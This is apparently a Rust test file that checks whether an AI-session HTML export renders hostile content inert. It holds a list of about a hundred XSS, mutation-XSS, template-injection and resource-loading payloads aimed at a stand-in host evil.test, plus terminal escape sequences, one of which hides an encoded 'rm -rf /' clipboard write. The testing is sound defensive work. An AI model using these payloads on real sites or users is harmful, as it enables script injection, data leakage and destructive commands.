//! A session full of payloads that elsewhere run, load, hide or break out: in its page they are text.

use std::fs;
use std::path::Path;

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use relaycode_session::SessionEntry;
use relaycode_session::export::ExportOptions;
use relaycode_testkit::browser::{Browser, BrowserPage, file_url};
use relaycode_testkit::{hostile_text, or_skip};
use relaycode_text::html::show_hidden;
use serde_json::{Value, json};

use super::Made;

/// Each sets `__pwned`, opens a dialog, makes a request, or changes the page, if it is taken for more than
/// text.
const PAYLOADS: &[&str] = &[
    "<script>window.__pwned=1</script>",
    "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
    "<script type=module>import '//evil.test/m.js'</script>",
    "<scr<script>ipt>window.__pwned=1</scr</script>ipt>",
    "</script><script>window.__pwned=1</script>",
    "</style><script>window.__pwned=1</script>",
    "</title><script>window.__pwned=1</script>",
    "</textarea><script>window.__pwned=1</script>",
    "</pre></code></div></details></article></main><script>window.__pwned=1</script>",
    "--><script>window.__pwned=1</script><!--",
    "<!--><script>window.__pwned=1</script>",
    "<!--",
    "]]><script>window.__pwned=1</script>",
    "<![CDATA[<script>window.__pwned=1</script>]]>",
    "<?xml version='1.0'?><script>window.__pwned=1</script>",
    "\"><script>window.__pwned=1</script>",
    "'><script>window.__pwned=1</script>",
    "\" onmouseover=\"window.__pwned=1\" autofocus onfocus=\"window.__pwned=1",
    "' onclick='window.__pwned=1' x='",
    "` onload=`window.__pwned=1",
    "<img src=x onerror=window.__pwned=1>",
    "<img src=//evil.test/i.png>",
    "<img/src=x/onerror=alert(1)//",
    "<img src=\"x\" onerror=\"&#119;indow.__pwned=1\">",
    "<svg onload=window.__pwned=1>",
    "<svg><script>window.__pwned=1</script></svg>",
    "<svg><animate onbegin=window.__pwned=1 attributeName=x dur=1s>",
    "<svg><use href=\"data:image/svg+xml,<svg id=x onload=window.__pwned=1>#x\"/></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=window.__pwned=1>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=window.__pwned=1&gt;\">",
    "<noscript><p title=\"</noscript><img src=x onerror=window.__pwned=1>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.__pwned=1>",
    "<iframe src=javascript:parent.__pwned=1></iframe>",
    "<iframe srcdoc=\"<script>parent.__pwned=1</script>\"></iframe>",
    "<iframe src=//evil.test></iframe>",
    "<object data=//evil.test/o.swf></object>",
    "<embed src=//evil.test/e.swf>",
    "<applet code=evil.test></applet>",
    "<frameset onload=window.__pwned=1>",
    "<meta http-equiv=refresh content=\"0;url=//evil.test\">",
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
    "<base href=//evil.test/>",
    "<base target=_blank>",
    "<link rel=stylesheet href=//evil.test/s.css>",
    "<link rel=prefetch href=//evil.test/p>",
    "<link rel=dns-prefetch href=//evil.test>",
    "<style>@import '//evil.test/s.css';</style>",
    "<style>body{background:url(//evil.test/b.png)}</style>",
    "<div style=\"background:url(//evil.test/c.png);position:fixed;inset:0\">",
    "@import url(//evil.test/i.css);",
    "*{display:none!important}body::after{content:url(//evil.test/a)}",
    "<form action=//evil.test><input name=q autofocus onfocus=window.__pwned=1></form>",
    "<button formaction=javascript:window.__pwned=1>",
    "<details open ontoggle=window.__pwned=1>",
    "<video src=//evil.test/v onerror=window.__pwned=1>",
    "<audio autoplay src=//evil.test/a>",
    "<input type=image src=//evil.test/in>",
    "<body onload=window.__pwned=1 background=//evil.test/bg>",
    "<marquee onstart=window.__pwned=1>",
    "<template><script>window.__pwned=1</script></template>",
    "<a href=javascript:window.__pwned=1 id=x>go</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">go</a>",
    "<a ping=//evil.test/ping href=#>x</a>",
    "[link](javascript:window.__pwned=1)",
    "[link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![pixel](https://evil.test/pixel.png)",
    "![a](x\"onerror=\"window.__pwned=1)",
    "[a]: javascript:alert(1) \"><script>window.__pwned=1</script>",
    "<https://evil.test/\"onclick=\"window.__pwned=1>",
    "```\"><script>window.__pwned=1</script>\ncode\n```",
    "| a |\n|---|\n| <script>window.__pwned=1</script> |",
    "> <img src=x onerror=window.__pwned=1>",
    "javascript:window.__pwned=1//",
    "javascript&colon;alert(1)",
    "&lt;script&gt;window.__pwned=1&lt;/script&gt;",
    "&#60;script&#62;window.__pwned=1&#60;/script&#62;",
    "{{constructor.constructor('window.__pwned=1')()}}",
    "${window.__pwned=1}",
    "<%= window.__pwned=1 %>",
    "#{window.__pwned=1}",
    "<img name=querySelector><img id=entries><img id=document><form id=location>",
    "<a id=e1 name=e1><a id=e1 name=classList href=//evil.test>",
    "__proto__",
    "constructor",
    "\u{2028}window.__pwned=1\u{2029}",
    "\0<scr\0ipt>window.__pwned=1</script>",
    "\u{feff}<script>window.__pwned=1</script>",
    "+ADw-script+AD4-window.__pwned=1+ADw-/script+AD4-",
    "\u{202e}txt.exe\u{2066}hidden\u{2069}",
    "\u{e0061}\u{e0062}\u{200b}\u{200b}",
    "\x1b[2J\x1b[31mred\x1b[0m",
    "\x1b]8;;javascript:alert(1)\x1b\\click\x1b]8;;\x1b\\",
    "\x1b]52;c;cm0gLXJmIC8=\x07",
    "\x1b]0;title\x07",
    "\u{9b}31m\u{9d}0;x\u{9c}",
    "\r\r\rover\x08\x08\x08",
    "Z\u{300}\u{301}\u{302}\u{303}\u{304}\u{305}\u{306}\u{307}",
];

/// The payloads in every place that a session has, one place after the other.
fn session(payloads: &[String]) -> Made {
    let mut turn = payloads.iter().cycle();
    let mut next = move || turn.next().unwrap().clone();
    let mut made = Made::new(&next(), &next());
    {
        let header = made.header.as_mut().unwrap();
        header.id = next();
        header.timestamp = next();
        header.parent_session = Some(next());
    }
    for _ in 0..payloads.len() {
        made.odd.push(next());
        let mut fields = serde_json::Map::new();
        fields.insert(next(), next().into());
        let fields = Value::from(fields);
        made.user(&next());
        made.assistant(&json!([{"type": "thinking", "thinking": next()}, {"type": "text", "text": next()},
            {"type": "toolCall", "id": next(), "name": next(), "arguments": fields}, {"type": next(), "x": next()}]));
        made.result(&next(), &next(), true);
        made.add(json!({"type": "message", "message": {"role": next(), "content": next(), "more": fields}}));
        made.add(json!({"type": "message", "message": {"role": "assistant", "provider": next(), "model": next(), "content": [],
            "stopReason": next(), "errorMessage": next()}}));
        made.add(json!({"type": "message", "message": {"role": "user", "content": [
            {"type": "image", "mimeType": next(), "data": next()},
            {"type": "image", "mimeType": "image/svg+xml", "data": STANDARD.encode("<svg xmlns='http://www.w3.org/2000/svg' onload='parent.__pwned=1'/>")},
            {"type": "image", "mimeType": format!("image/png\"{}", next()), "data": format!("{}\"{}", super::rich_session::PNG, next())}]}}));
        made.add(json!({"type": "session_init", "systemPrompt": next(), "task": next(), "tools": [next()], "outputSchema": fields}));
        made.add(json!({"type": "model_change", "model": next(), "role": next()}));
        made.add(json!({"type": "thinking_level_change", "thinkingLevel": next()}));
        made.add(json!({"type": "service_tier_change", "serviceTier": next()}));
        made.add(json!({"type": "compaction", "summary": next(), "shortSummary": next(), "firstKeptEntryId": next(), "tokensBefore": 1,
            "details": fields, "preserveData": next()}));
        made.add(json!({"type": "branch_summary", "fromId": next(), "summary": next(), "details": fields}));
        made.add(json!({"type": "custom", "customType": next(), "data": fields}));
        let target = made.add(json!({"type": "custom_message", "customType": next(), "content": next(), "display": true, "attribution": next()}));
        made.add(json!({"type": "label", "targetId": target, "label": next()}));
        made.add(json!({"type": "ttsr_injection", "injectedRules": [next()]}));
        made.add(json!({"type": "mcp_tool_selection", "selectedToolNames": [next()]}));
        made.add(json!({"type": "mode_change", "mode": next(), "data": fields}));
        made.add(json!({"type": next(), "a": fields}));
    }
    // Ids and times are foreign too.
    for entry in made.entries.iter_mut().step_by(7) {
        entry.timestamp = next();
        entry.id = next();
    }
    made
}

#[track_caller]
fn assert_harmless(page: &BrowserPage, browser: &Browser, file: &Path, windows: usize) {
    assert_eq!(page.eval("typeof window.__pwned"), "undefined");
    assert_eq!(page.dialogs(), [""; 0]);
    assert_eq!(page.violations(), [""; 0]);
    assert_eq!(page.console(), [""; 0]);
    assert_eq!(page.requests(), [file_url(file)]);
    assert_eq!(browser.windows().len(), windows, "{:?}", browser.windows());
    for (selector, ours) in [
        ("script", 1),
        ("style", 1),
        ("meta", 4),
        ("title", 1),
        ("input", 1),
        ("dialog", 1),
        ("main", 1),
        ("nav", 1),
        ("iframe", 0),
        ("object", 0),
        ("embed", 0),
        ("base", 0),
        ("form", 0),
        ("link", 0),
        ("svg", 0),
        ("math", 0),
        ("template", 0),
        ("video", 0),
        ("audio", 0),
        ("img", 0),
        ("[style]:not(.run)", 0),
        ("[name]:not(meta)", 0),
        ("[src]", 0),
        ("[srcdoc]", 0),
        ("a:not([href^='#e'])", 0),
        ("textarea", 0),
        ("noscript", 0),
    ] {
        assert_eq!(
            page.eval(&format!("document.querySelectorAll(\"{selector}\").length")),
            ours,
            "{selector}"
        );
    }
    let handlers = page.eval(
        "[...document.querySelectorAll('*')].flatMap(e => [...e.attributes]).map(a => a.name).filter(name => name.startsWith('on'))",
    );
    assert_eq!(handlers, json!([]));
    let ids = page.eval(
        "[...document.querySelectorAll('[id]')].map(e => e.id).filter(id => !/^(e[0-9]+|entries)$/.test(id))",
    );
    assert_eq!(ids, json!([]));
}

#[test]
fn nothing_in_a_hostile_session_runs_or_asks_for_anything() {
    let browser = or_skip!(Browser::start());
    let folder = tempfile::tempdir().unwrap();
    let file = folder.path().join("hostile.html");
    assert!(PAYLOADS.len() >= 90, "{}", PAYLOADS.len());
    let payloads: Vec<String> = PAYLOADS.iter().map(|payload| (*payload).to_owned()).collect();
    let made = session(&payloads);
    let exported = made.html(&file, &ExportOptions::default());
    assert_eq!((exported.entries, exported.images), (made.entries.len(), 0));
    assert_eq!(hostile_text::find_unsafe_char(&fs::read_to_string(&file).unwrap(), false), None);

    let page = browser.page();
    page.resize(1200, 900);
    page.go(&file_url(&file));
    let windows = browser.windows().len();
    let title = show_hidden(made.header.as_ref().unwrap().title.as_deref().unwrap()).into_owned();
    assert_eq!(page.eval("document.title"), title.as_str());
    assert_harmless(&page, &browser, &file, windows);

    // Every payload can be read, several times.
    let shown = page.eval("document.body.textContent");
    let shown = shown.as_str().unwrap();
    for payload in PAYLOADS {
        let words = show_hidden(payload);
        assert!(shown.matches(words.lines().next().unwrap()).count() >= 3, "{payload:?}");
    }

    // Using the page triggers nothing: unfold, search, filter, jump, click, go through every focus.
    page.key("e");
    page.key("/");
    page.type_text("<script>");
    page.wait("document.querySelectorAll('.miss').length > 0", std::time::Duration::from_secs(20));
    page.key("Enter");
    page.key("Enter");
    page.key("Escape");
    page.key("Escape");
    page.eval("document.querySelectorAll('main summary, main span, main code').forEach((e, at) => { if (at % 50 === 0) { e.click(); e.dispatchEvent(new MouseEvent('mouseover', {bubbles: true})) } })");
    for _ in 0..40 {
        page.key("Tab");
    }
    assert_harmless(&page, &browser, &file, windows);
    assert_eq!(page.eval("document.title"), title.as_str());

    let page = browser.page();
    page.scripts(false);
    page.go(&file_url(&file));
    assert_harmless(&page, &browser, &file, windows + 1);
}

#[test]
fn each_payload_is_the_title_and_the_directory_once() {
    let browser = or_skip!(Browser::start());
    let folder = tempfile::tempdir().unwrap();
    let page = browser.page();
    for payload in PAYLOADS {
        let file = folder.path().join("title.html");
        let mut made = Made::new(payload, payload);
        made.user(payload);
        made.assistant(&json!([{"type": "text", "text": payload.repeat(3)}]));
        made.html(&file, &ExportOptions { title: Some(format!("{payload} x")), ..ExportOptions::default() });
        page.go(&file_url(&file));
        assert_eq!(page.eval("typeof window.__pwned"), "undefined", "{payload}");
        // A title has no blanks at its ends and none twice.
        let flat = |text: &str| text.split_whitespace().collect::<Vec<_>>().join(" ");
        let given = format!("{payload} x");
        let expected = flat(&show_hidden(given.trim()).replace('\n', "\\n"));
        assert_eq!(flat(page.eval("document.title").as_str().unwrap()), expected);
    }
    assert_eq!((page.dialogs(), page.violations(), page.console()), (vec![], vec![], vec![]));
    assert!(page.requests().iter().all(|url| url.ends_with("/title.html")), "{:?}", page.requests());
}

#[test]
fn half_a_surrogate_makes_a_line_that_is_no_entry() {
    let line = r#"{"type":"message","id":"a","message":{"role":"user","content":"\ud800<script>"}}"#;
    assert!(SessionEntry::from_line(line.as_bytes()).is_err());
}
